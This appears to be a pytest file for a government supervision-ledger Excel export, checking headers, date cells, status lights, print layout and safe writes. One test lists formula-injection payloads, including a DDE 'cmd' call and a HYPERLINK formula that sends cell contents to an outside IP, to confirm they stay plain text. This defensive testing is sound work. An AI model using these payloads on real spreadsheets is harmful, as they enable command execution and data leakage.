from __future__ import annotations

import io
import unicodedata
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape
from openpyxl.worksheet.worksheet import Worksheet

from services.documents import ledger as sheets
from services.documents.ledger import COLUMNS, FIRST, HEAD, IMPRINT, NOT_REAL, SHAPES, Imprint, export, write_ledger
from services.office_calendar import published
from services.queries import ledger
from services.queries.ledger import Line
from services.queries.moment import AsOf, Reading
from services.rulepacks import shipped
from tests.services.tasks.office import EDUCATION, MONDAY, WATER, Office

# openpyxl says that it drops the data bar when it reads
pytestmark = pytest.mark.filterwarnings("ignore:.*not supported and will be removed")

AT = datetime(2026, 6, 8, 1, 5, tzinfo=UTC)


class Here:
    schema, tables, zone = "record_500155", "tables_500155", "Asia/Shanghai"


READING = Reading(Here(), AsOf(7, MONDAY), shipped()["500155"][-1], published())


def line(**changes: object) -> Line:
    """A matter in the hands of one unit."""
    plain = dict.fromkeys(Line.__dataclass_fields__, "")
    numbers = ("progress", "returns", "urges", "extensions", "late_entries", "reopened", "children", "unsigned",
               "to_review", "objections", "extensions_asked", "corrections_asked", "since")  # fmt: skip
    dates = ("due_first", "due", "stage_due", "review_on", "report_due", "received_final_on", "clock_stopped_on", "suspended_on",
             "reported_up_on", "endorsed_on", "closed_on", "archived_on", "external_due", "parent", "merged_into")  # fmt: skip
    return Line(
        **{
            **plain,
            **dict.fromkeys(numbers, 0),
            **dict.fromkeys(dates),
            "aliases": (),
            "leads": (EDUCATION,),
            "assists": (),
            "number": "梁府督〔2026〕1号",
            "title": "新建公办幼儿园",
            "source": "meeting",
            "level": "open",
            "urgency": "normal",
            "status": "in_progress",
            "holder": "unit",
            "holder_since": MONDAY,
            "received_on": date(2026, 3, 2),
            "registered_on": date(2026, 3, 2),
            "due_kind": "date",
            **changes,
        }  # type: ignore[arg-type]
    )


def written(*lines: Line, language: str = "zh", is_simulated: bool = False) -> bytes:
    out = io.BytesIO()
    imprint = Imprint("id-clerk", AT, position=7, is_simulated=is_simulated)
    count = write_ledger(lines, out, reading=READING, imprint=imprint, name=lambda code: code, language=language)
    assert count == len(lines)
    return out.getvalue()


def opened(content: bytes) -> Worksheet:
    return openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]


def cell(sheet: Worksheet, zh: str, row: int = 0):
    [n] = [n for n, column in enumerate(COLUMNS) if column.zh == zh]
    return sheet.cell(FIRST + row + 1, n + 1)


def test_a_sheet_says_what_it_shows_when_and_from_where():
    sheet = opened(written(line()))

    assert sheet.cell(1, 1).value == "重庆市梁平区人民政府督办台账"
    assert sheet.cell(IMPRINT + 1, 1).value == (
        "截至：2026-06-08    导出：id-clerk 2026-06-08 09:05    规则包：500155@2022.1    记录位置：#7"
    )
    assert [c.value for c in sheet[HEAD + 1]] == [column.zh for column in COLUMNS]


@pytest.mark.parametrize(("language", "n"), [("zh", 0), ("en", 1)])
def test_a_simulated_record_says_so_on_the_sheet_and_on_every_printed_page(language, n):
    sheet = opened(written(line(), language=language, is_simulated=True))

    assert NOT_REAL[n] in sheet.cell(1, 1).value
    assert sheet.oddHeader.center.text == NOT_REAL[n]
    assert opened(written(line(), language=language)).oddHeader.center.text is None


def test_an_english_sheet_has_no_chinese_of_ours():
    sheet = opened(written(line(title="Kindergartens", number="1"), language="en"))

    said = [str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None]

    assert [text for text in said if any("一" <= letter <= "鿿" for letter in text)] == []


def test_dates_numbers_and_progress_are_no_texts():
    sheet = opened(written(line(due=date(2026, 6, 30), due_first=date(2026, 5, 29), progress=40, returns=2)))

    assert cell(sheet, "现行时限").value.date() == date(2026, 6, 30)
    assert cell(sheet, "首次时限").value.date() == date(2026, 5, 29)
    assert (cell(sheet, "进度").value, cell(sheet, "进度").number_format) == (0.4, "0%")
    assert cell(sheet, "退回").value == 2
    assert cell(sheet, "办结日期").value is None


@pytest.mark.parametrize(
    ("changes", "light"),
    [
        ({"due": date(2026, 12, 31)}, "● 正常"),
        ({"due": MONDAY}, "▲ 临期"),
        ({"due": date(2026, 6, 5)}, "■ 逾期"),
        ({"due": date(2026, 6, 5), "suspended_on": date(2026, 6, 1), "status": "suspended"}, "‖ 中止"),
    ],
)
def test_a_light_is_a_word_and_a_shape_that_its_rule_colours(changes, light):
    sheet = opened(written(line(**changes)))

    lamp = cell(sheet, "办结亮灯")
    rules = [rule for area in sheet.conditional_formatting if lamp.coordinate in area for rule in area.rules]

    assert lamp.value == light
    assert f'"{light}"' in [rule.formula[0] for rule in rules]


def test_where_no_light_is_on_the_sheet_says_why_not():
    over = opened(written(line(status="archived", outcome="completed", closed_on=MONDAY)))
    open_ended = opened(written(line()))

    assert cell(over, "反馈亮灯").value == "– 已结束"
    assert cell(open_ended, "办结亮灯").value == "– 无时限"
    assert cell(open_ended, "反馈亮灯").value == "– 无须反馈"


def test_a_sheet_is_made_for_a4_landscape_with_its_head_on_every_page():
    sheet = opened(written(line(), line()))

    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize, sheet.page_setup.fitToHeight) == (
        "landscape",
        9,
        0,
    )
    assert sheet.print_title_rows == "$3:$3"
    assert sheet.freeze_panes == "C4"
    assert sheet.auto_filter.ref == "A3:AB5"
    assert "&P" in sheet.oddFooter.center.text
    assert "&N" in sheet.oddFooter.center.text


def test_an_empty_ledger_is_a_sheet_all_the_same():
    assert opened(written()).max_row == HEAD + 1


DANGEROUS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://203.0.113.1/?x="&A1,"点此")',
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "{=1+1}",
    "http://203.0.113.1/",
    "mailto:a@b.example",
    "internal:Sheet1!A1",
    "_x0041_",
    "<b>&amp;</b>",
)


@pytest.mark.parametrize("text", DANGEROUS)
def test_no_free_text_becomes_a_formula_or_a_link(text):
    free = dict.fromkeys(("number", "title", "leader", "basis", "external_number"), text)
    content = written(line(**free, leads=(text,), assists=(text, text)))

    sheet = opened(content)
    inside = zipfile.ZipFile(io.BytesIO(content))

    for zh in ("督办编号", "事项名称", "批示领导", "立项依据", "来文字号", "牵头单位"):
        found = cell(sheet, zh)
        assert found.data_type == "s"
        assert unescape(found.value) == text.replace("\r", "\n")
        assert found.hyperlink is None
    assert not any(b"<f>" in inside.read(name) or b"<hyperlink" in inside.read(name) for name in inside.namelist())


@pytest.mark.parametrize("text", ["=1+1", "@x", "-1", "  =1+1"])
def test_a_text_typed_again_by_a_reader_stays_a_text(text):
    assert cell(opened(written(line(title=text))), "事项名称").quotePrefix


@settings(max_examples=60, deadline=None)
@given(st.text(st.characters(codec="utf-8", exclude_categories=["Cs", "Cc", "Co", "Cn"]), min_size=1, max_size=40))
def test_any_text_reads_back_as_it_was_in_normal_form(text):
    found = cell(opened(written(line(title=text))), "事项名称")

    assert unescape(found.value) == unicodedata.normalize("NFC", text)


def test_a_text_longer_than_a_cell_says_that_it_goes_on():
    value = cell(opened(written(line(basis="依" * 40_000))), "立项依据").value

    assert len(value) == sheets.LONGEST_CELL
    assert value.endswith("…")


def test_every_light_has_a_shape_of_its_own():
    assert len(set(SHAPES.values())) == len(SHAPES)


# ── from the record ─────────────────────────────────────────────────────────────────────────────


@pytest.fixture
def office(house) -> Office:
    return Office(house)


def exported(office: Office, folder: Path, **when: object) -> Worksheet:
    file = folder / "台账.xlsx"
    export(office.house, office.record, file, exported_by="id-clerk", exported_at=AT, **when)
    assert [each.name for each in folder.iterdir()] == ["台账.xlsx"]
    return opened(file.read_bytes())


def test_the_whole_ledger_is_exported_with_the_names_of_units(office, tmp_path, monkeypatch):
    monkeypatch.setattr(ledger, "ROWS_AT_ONCE", 2)
    for unit in (EDUCATION, WATER, EDUCATION, WATER, EDUCATION):
        office.signed(due=date(2026, 12, 31), unit=unit)

    sheet = exported(office, tmp_path)

    rows = [(cell(sheet, "督办编号", n).value, cell(sheet, "牵头单位", n).value) for n in range(5)]
    assert [unit for _, unit in rows] == ["区教委", "区水利局", "区教委", "区水利局", "区教委"]
    assert len({number for number, _ in rows}) == 5
    assert sheet.max_row == FIRST + 5
    assert f"#{office.record.head()[0]}" in sheet.cell(IMPRINT + 1, 1).value


def test_a_past_day_is_exported_as_it_was(office, tmp_path):
    office.signed(due=date(2026, 12, 31))

    sheet = exported(office, tmp_path, as_of=date(2020, 1, 1))

    assert sheet.max_row == HEAD + 1
    assert "截至：2020-01-01" in sheet.cell(IMPRINT + 1, 1).value
    assert "#0" in sheet.cell(IMPRINT + 1, 1).value


def test_an_export_that_breaks_off_leaves_the_old_file(office, tmp_path, monkeypatch):
    file = tmp_path / "台账.xlsx"
    file.write_bytes(b"yesterday's")
    monkeypatch.setattr(sheets, "every_line", lambda *_: iter([1 / 0]))

    with pytest.raises(ZeroDivisionError):
        export(office.house, office.record, file, exported_by="id-clerk")

    assert file.read_bytes() == b"yesterday's"
    assert [each.name for each in tmp_path.iterdir()] == ["台账.xlsx"]
